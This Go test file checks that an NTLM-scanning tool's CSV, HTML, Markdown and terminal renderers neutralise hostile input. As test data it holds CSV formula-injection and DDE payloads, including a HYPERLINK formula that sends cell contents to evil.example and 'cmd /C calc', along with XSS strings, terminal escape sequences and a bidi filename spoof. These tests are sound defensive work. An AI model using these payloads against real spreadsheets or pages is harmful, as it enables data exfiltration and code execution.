package render_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/ntlmscan/ntlmscan/report"
	"github.com/ntlmscan/ntlmscan/report/internal/reporttest"
	"github.com/ntlmscan/ntlmscan/report/render"
	"github.com/ntlmscan/ntlmscan/report/verdict"
	"github.com/ntlmscan/ntlmscan/scanner/facts"
)

// Values an attacker controls: host names and inventory entries, and text a
// compromised host returns (OS caption, error messages) that ends up in
// reasons and host errors.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"＝1+1", // full-width equals sign
}

const (
	scriptTag = `<script>alert("pwned")</script>`
	termEsc   = "\x1b]0;owned\x07\x1b[2J\x1b[31mEVIL"
	bidi      = "AGENT\u202eexe.txt"
)

// hostile returns the demo report with attacker text in every field a
// renderer prints.
func hostile(payloads []string) *report.Report {
	r := reporttest.DemoFull()
	next := 0
	pick := func() string {
		s := payloads[next%len(payloads)]
		next++
		return s
	}
	for i := range r.Matrix.Paths {
		p := &r.Matrix.Paths[i]
		p.Core, p.Target, p.NameUsed, p.Account, p.NeedWhy, p.Share = pick(), pick(), pick(), pick(), pick(), pick()
		p.Reasons = append(p.Reasons, verdict.Reason{
			Host: pick(), Setting: pick(), RawValue: pick(), ValueLabel: pick(), Effect: verdict.EffectInfo,
			Explanation: pick(), Event: pick(),
			Remediation: &verdict.Remediation{Host: pick(), Setting: pick(), Value: pick(), PowerShell: pick(), GPOPath: pick(), Note: pick(), Change: pick()},
		})
		if p.Deciding != nil {
			p.Deciding.Host, p.Deciding.Explanation = pick(), pick()
		}
	}
	r.Matrix.HostNotes = append(r.Matrix.HostNotes, verdict.Reason{Host: pick(), Effect: verdict.EffectInfo, Explanation: pick()})
	r.Hosts = append(r.Hosts, facts.HostResult{Host: pick(), Address: pick(),
		Error: &facts.HostError{Class: facts.ErrorClass(pick()), Message: pick(), Hint: pick()}})
	for i := range r.Waivers.Applied {
		a := &r.Waivers.Applied[i]
		a.Owner, a.Reason = pick(), pick()
	}
	r.RunID, r.Inventory, r.ToolVersion = pick(), pick(), pick()
	return r
}

func TestCSVFormulaInjection(t *testing.T) {
	t.Parallel()
	r := hostile(formulas)
	out := render1(t, "csv", r, render.Options{})
	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if len(records) != 1+len(r.Matrix.Paths) {
		t.Fatalf("%d records, want a header and %d paths", len(records), len(r.Matrix.Paths))
	}
	seen := map[string]bool{}
	for i, rec := range records {
		if len(rec) != len(render.CSVColumns()) {
			t.Errorf("record %d has %d cells, want %d", i, len(rec), len(render.CSVColumns()))
		}
		for j, cell := range rec {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '-', '@', '\t', '\r', '\n':
				t.Errorf("record %d column %s starts with %q: %q", i, records[0][j], cell[0], cell)
			}
			if strings.HasPrefix(cell, "＝") {
				t.Errorf("record %d column %s starts with a full-width =", i, records[0][j])
			}
			if strings.HasPrefix(cell, "'") {
				seen[cell[1:]] = true
			}
		}
	}
	// The payloads are neutralised, not lost: a quote in front of the text.
	for _, f := range []string{formulas[0], formulas[1], formulas[2], formulas[3], formulas[6]} {
		if !seen[f] {
			t.Errorf("payload %q not found with a neutralising quote", f)
		}
	}
	if !seen[`\x09=1+1`] && !seen[`\x0d=1+1`] {
		// Control characters are shown escaped; that alone removes the risk.
		for _, rec := range records[1:] {
			for _, cell := range rec {
				if strings.Contains(cell, "\t") || strings.Contains(cell, "\r") {
					t.Errorf("raw control character in cell %q", cell)
				}
			}
		}
	}
}

func TestCSVHeaderAndRFC4180(t *testing.T) {
	t.Parallel()
	out := render1(t, "csv", reporttest.DemoFull(), render.Options{})
	firstLine, _, _ := bytes.Cut(out, []byte("\r\n"))
	if string(firstLine) != strings.Join(render.CSVColumns(), ",") {
		t.Errorf("header = %s", firstLine)
	}
	// Every line ends CRLF, the line breaks inside multi-line cells too
	// (encoding/csv with UseCRLF), and every path is one record.
	if bytes.Count(out, []byte("\n")) != bytes.Count(out, []byte("\r\n")) {
		t.Error("a line ends with a bare LF")
	}
	all, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil || len(all) != 1+len(reporttest.DemoFull().Matrix.Paths) {
		t.Errorf("%d records (%v), want a header and one per path", len(all), err)
	}
	// A cell with a comma, a quote and a pipe survives the round trip.
	r := reporttest.Demo()
	r.Matrix.Paths[0].NeedWhy = `a, "quoted" | piped`
	records, err := csv.NewReader(bytes.NewReader(render1(t, "csv", r, render.Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := records[1][13]; got != `a, "quoted" | piped` {
		t.Errorf("ntlm_needed_why = %q", got)
	}
}

func TestHTMLEscaping(t *testing.T) {
	t.Parallel()
	r := hostile([]string{scriptTag, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, termEsc, `</style><style>*{display:none}`})
	out := string(render1(t, "html", r, render.Options{}))
	for _, bad := range []string{"<img", "</style><style>", "\x1b", "onerror=alert(1)>"} {
		if strings.Contains(out, bad) {
			i := strings.Index(out, bad)
			t.Errorf("HTML contains %q: …%s…", bad, out[max(0, i-80):min(len(out), i+80)])
		}
	}
	// The page's own script is the only one.
	if n := strings.Count(out, "<script"); n != 1 {
		t.Errorf("HTML has %d <script tags, want only the page's own", n)
	}
	if !strings.Contains(out, "&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;") {
		t.Error("escaped script tag not found")
	}
	checkInertHTML(t, out)
	// Self-contained: nothing loads from elsewhere.
	for _, ext := range []string{"<link", "src=", "url(", "@import", "http://", "https://"} {
		if strings.Contains(render1Clean(t), ext) {
			t.Errorf("demo HTML references an external resource (%q)", ext)
		}
	}
	csp, script := pageCSPAndScript(t, out)
	if !strings.HasPrefix(csp, "default-src 'none'; style-src 'unsafe-inline'; script-src 'sha256-") {
		t.Errorf("CSP = %q", csp)
	}
	if script != render.HTMLScript() {
		t.Error("the page's script differs from the embedded one")
	}
}

// TestHTMLScriptHashInCSP: the Content-Security-Policy allows the page's
// inline script by the SHA-256 of its exact bytes, and nothing else runs.
func TestHTMLScriptHashInCSP(t *testing.T) {
	t.Parallel()
	for _, r := range []*report.Report{reporttest.DemoFull(), reporttest.Small()} {
		csp, script := pageCSPAndScript(t, string(render1(t, "html", r, render.Options{})))
		sum := sha256.Sum256([]byte(script))
		want := "script-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
		// The script-src directive is exactly the hash: no 'unsafe-inline',
		// no host, nothing else.
		directives := strings.Split(csp, "; ")
		if i := slices.IndexFunc(directives, func(d string) bool { return strings.HasPrefix(d, "script-src ") }); i < 0 || directives[i] != want {
			t.Errorf("CSP %q: want the directive %q", csp, want)
		}
		if !slices.Contains(directives, "default-src 'none'") {
			t.Errorf("CSP %q lacks default-src 'none'", csp)
		}
		if !strings.Contains(script, "addEventListener") {
			t.Error("the script attaches no listeners: is it the page's?")
		}
	}
}

// pageCSPAndScript parses the page and returns its CSP meta content and
// the text of its one script element.
func pageCSPAndScript(t *testing.T, page string) (csp, script string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	scripts := 0
	for {
		switch z.Next() {
		case html.ErrorToken:
			if scripts != 1 {
				t.Errorf("%d script elements, want 1", scripts)
			}
			return csp, script
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "meta":
				var equiv, content string
				for _, a := range tok.Attr {
					switch a.Key {
					case "http-equiv":
						equiv = a.Val
					case "content":
						content = a.Val
					}
				}
				if strings.EqualFold(equiv, "Content-Security-Policy") {
					csp = content
				}
			case "script":
				scripts++
				if z.Next() == html.TextToken {
					script = string(z.Text())
				}
			}
		}
	}
}

// checkInertHTML parses the page as a browser would and fails on anything
// active or external: script-capable elements (but the page's own script,
// without attributes and with the embedded text), event handlers, links
// and sources.
func checkInertHTML(t *testing.T, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script":
				if len(tok.Attr) > 0 || z.Next() != html.TextToken || string(z.Text()) != render.HTMLScript() {
					t.Errorf("HTML has a <script> element other than the page's own")
				}
			case "img", "iframe", "object", "embed", "link", "a", "form", "svg", "base":
				t.Errorf("HTML has a <%s> element", tok.Data)
			}
			for _, a := range tok.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "href" || a.Key == "style" {
					t.Errorf("HTML element <%s> has attribute %s=%q", tok.Data, a.Key, a.Val)
				}
			}
		}
	}
}

func render1Clean(t *testing.T) string {
	return string(render1(t, "html", reporttest.DemoFull(), render.Options{}))
}

func TestTerminalEscapesNeutralised(t *testing.T) {
	t.Parallel()
	r := hostile([]string{termEsc, bidi, "nul\x00byte", "bad\xffutf8", "line\nbreak"})
	for _, tc := range []struct {
		format string
		opts   render.Options
	}{
		{"table", render.Options{}},
		{"table", render.Options{Color: true, Width: 80}},
		{"markdown", render.Options{}},
		{"csv", render.Options{}},
	} {
		out := string(render1(t, tc.format, r, tc.opts))
		if tc.format == "markdown" {
			out = withoutCodeBlocks(t, out)
		}
		for _, bad := range []string{"\x1b]", "\x1b[2J", "\x07", "\u202e", "\x00", "\xff", "line\nbreak"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s (color=%v) output contains %q", tc.format, tc.opts.Color, bad)
			}
		}
		for _, want := range []string{`\x1b]0;owned\x07`, `AGENT\u202eexe.txt`, `nul\x00byte`, `bad\xffutf8`} {
			if !strings.Contains(out, want) {
				t.Errorf("%s output lacks the visible form %q", tc.format, want)
			}
		}
	}
}

func TestMarkdownEscaping(t *testing.T) {
	t.Parallel()
	r := hostile([]string{"a|b|c", scriptTag, "[click](http://evil.example)", "**bold** _it_ `code`", "# heading", "![img](http://evil.example/x.png)"})
	out := withoutCodeBlocks(t, string(render1(t, "markdown", r, render.Options{})))
	for _, line := range strings.Split(out, "\n") {
		text := withoutCodeSpans(line)
		// Outside code, markup from the data must be escaped: no raw HTML,
		// no link or image syntax, no heading made of data.
		if strings.Contains(text, "<") || strings.HasPrefix(line, "# heading") {
			t.Errorf("unescaped markup in %q", line)
		}
		if unescapedLink.MatchString(text) {
			t.Errorf("unescaped link in %q", line)
		}
	}
	// Every path row keeps its 9 cells despite pipes in the data.
	inPaths := false
	for _, line := range strings.Split(out, "\n") {
		switch {
		case strings.HasPrefix(line, "## Paths"):
			inPaths = true
		case strings.HasPrefix(line, "## "):
			inPaths = false
		case inPaths && strings.HasPrefix(line, "|"):
			if cells := countCells(line); cells != 9 {
				t.Errorf("path row has %d cells: %s", cells, line)
			}
		}
	}
}

// withoutCodeBlocks drops fenced PowerShell blocks, whose content is
// literal in Markdown (line breaks included), and checks that each fence is
// closed by the same fence, so data cannot end a block early.
func withoutCodeBlocks(t *testing.T, md string) string {
	t.Helper()
	var out []string
	fence := ""
	for _, line := range strings.Split(md, "\n") {
		switch {
		case fence == "" && strings.HasPrefix(line, "```") && strings.HasSuffix(line, "powershell"):
			fence = strings.TrimSuffix(line, "powershell")
		case fence != "" && line == fence:
			fence = ""
		case fence != "":
			if strings.HasPrefix(line, "```") && len(strings.TrimLeft(line, "`")) == 0 && len(line) >= len(fence) {
				t.Errorf("data line %q would close the fence %q", line, fence)
			}
		default:
			out = append(out, line)
		}
	}
	if fence != "" {
		t.Error("unclosed code fence")
	}
	return strings.Join(out, "\n")
}

var unescapedLink = regexp.MustCompile(`(^|[^\\])\]\(`)

// withoutCodeSpans removes inline code spans (literal in Markdown) from a line.
func withoutCodeSpans(line string) string {
	var b strings.Builder
	for i := 0; i < len(line); i++ {
		switch {
		case line[i] == '\\' && i+1 < len(line):
			b.WriteString(line[i : i+2])
			i++
		case line[i] == '`':
			n := 1
			for i+n < len(line) && line[i+n] == '`' {
				n++
			}
			fence := strings.Repeat("`", n)
			end := strings.Index(line[i+n:], fence)
			if end < 0 {
				b.WriteString(line[i:])
				return b.String()
			}
			i += n + end + n - 1
		default:
			b.WriteByte(line[i])
		}
	}
	return b.String()
}

// countCells counts GFM table cells, honouring backslash-escaped pipes.
func countCells(line string) int {
	n := 0
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case '\\':
			i++
		case '|':
			n++
		}
	}
	return n - 1
}
